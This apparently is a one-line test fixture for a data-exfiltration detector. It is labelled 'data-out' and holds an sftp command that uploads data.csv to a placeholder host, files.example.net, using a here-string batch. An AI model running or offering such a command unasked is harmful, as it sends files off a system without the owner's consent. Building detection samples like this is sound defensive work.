# expect: data-out
# source: DESIGN.md section 2: data-out
# technique: sftp with a here-string batch
sftp u@files.example.net <<< 'put data.csv'
